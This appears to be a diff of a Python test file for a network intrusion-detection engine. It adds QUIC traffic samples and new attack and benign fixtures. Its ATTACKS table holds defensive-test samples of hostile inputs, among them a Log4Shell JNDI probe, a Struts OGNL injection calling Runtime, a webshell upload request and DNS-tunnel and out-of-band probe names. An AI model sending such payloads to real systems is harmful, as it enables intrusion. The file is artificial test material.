@@ -9,10 +9,12 @@ import pytest
 
 from correlation.matcher.engine import Matcher
 from correlation.rules.loading import load_rules
+from sensors.capture.handshakes import client_hello
 from sensors.event.model import Source
 from sensors.reading.detection import detect
 from sensors.reading.model import Position
 from tests.sensors.capture.protocols import test_kerberos as kerberos
+from tests.sensors.capture.protocols import test_quic as quic
 from tests.sensors.capture.protocols import test_rdp as rdp
 from tests.sensors.capture.protocols import test_smb as smb
 
@@ -64,12 +66,12 @@ def dns(name: str, kind: int = 1) -> bytes:
     return struct.pack("!HHHHHH", 0x4711, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
 
 
-def router_advertisement(prefix: str, lifetime: int) -> Packet:
+def router_advertisement(prefix: str, lifetime: int, hops: int = 255) -> Packet:
     """An offer to be the default router, with a prefix of 64 bits, to all nodes (RFC 4861, sections 4.2 and 4.6.2)."""
     option = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86_400, 14_400, 0) + ipaddress.IPv6Address(prefix).packed
     body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, lifetime, 0, 0) + option
     ends = ipaddress.IPv6Address("fe80::bad").packed + ipaddress.IPv6Address("ff02::1").packed
-    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255)
+    head = struct.pack("!IHBB", 6 << 28, len(body), 58, hops)
     return b"\x33\x33\x00\x00\x00\x01\x02\x00\x00\x00\x0b\xad\x86\xdd" + head + ends + body
 
 
@@ -169,6 +171,12 @@ def desktop(chosen: int) -> list[Packet]:
     return tcp_session(("10.31.7.45", 50_331), ("10.31.1.6", 3389), [(asked, given)])
 
 
+def quic_to(server: str, name: str) -> list[Packet]:
+    """The first flight of a client over QUIC (RFC 9001)."""
+    hello = client_hello(name, (0x1301, 0x1302))[5:]
+    return [udp(("10.31.7.45", 50_331), (server, 443), quic.initial(quic.crypto(0, hello)))]
+
+
 LONG = f"{'5f3a0011' * 6}.{'8899aabb' * 6}.t.synthetic.example"
 
 ATTACKS = {
@@ -187,6 +195,8 @@ ATTACKS = {
     "unregistered_dns_resolver": asks("223.5.5.5", "synthetic-news.example"),
     "out_of_band_probe_domain": asks("10.0.0.53", "synthetic77.s1.dnslog.cn"),
     "dns_tunnel_long_name": asks("10.0.0.53", LONG, 16),
+    "encrypted_dns_resolver": quic_to("203.0.113.53", "dns.alidns.com"),
+    "remote_control_tool_tls": quic_to("203.0.113.60", "relay-3.todesk.com"),
     "log4shell_probe": web("GET /", "User-Agent: ${jndi:ldap://192.0.2.99/synthetic}"),
     "struts_ognl_injection": web("GET /a.action?redirect:%24%7b%23x%3d%40java.lang.Runtime%40getRuntime()%7d"),
     "webshell_in_upload_folder": web("POST /cms/uploadfile/202611/synthetic7.jsp?c=1", "Content-Length: 0"),
@@ -195,6 +205,7 @@ ATTACKS = {
     "smb_administrative_share_used": share("10.31.7.45", r"\\synthetic-dc1\c$"),
     "rdp_without_tls": desktop(0),
     "router_advertisement_unknown_prefix": [router_advertisement("2001:db8:bad::", 1_800)],
+    "neighbour_discovery_from_afar": [router_advertisement("2001:db8:bad::", 1_800, 64)],
     "dhcp_gives_outside_resolver": [lease(b"\x06\x04\xcb\x00\x71\x35")],
     "dhcp_routes_all_traffic": [lease(b"\x79\x0c\x01\x00\x0a\x46\x01\x42\x01\x80\x0a\x46\x01\x42")],
     "ntp_monlist_answered": monlist(6),
@@ -209,6 +220,7 @@ LEGITIMATE = {
     "stun": [udp(("10.70.1.8", 51_000), ("203.0.113.98", 3478), b"\0" * 60)],
     "registered_forwarder": [udp(("10.0.0.53", 53_311), ("223.5.5.5", 53), dns("synthetic-news.example"))],
     "mail_policy": asks("10.0.0.53", "synthetic._domainkey.mail.example", 16),
+    "quic": quic_to("203.0.113.60", "www.todesk.com") + quic_to("203.0.113.60", "portal.synthetic.example"),
     "page": web("GET /cms/uploadfile/202611/synthetic.pdf", "User-Agent: Mozilla/5.0 (synthetic)"),
     "own_prefix": [router_advertisement("fd00:70:1::", 1_800), router_advertisement("2001:db8:bad::", 0)],
     "inside_resolver": [lease(b"\x06\x04\x0a\x00\x00\x35")],
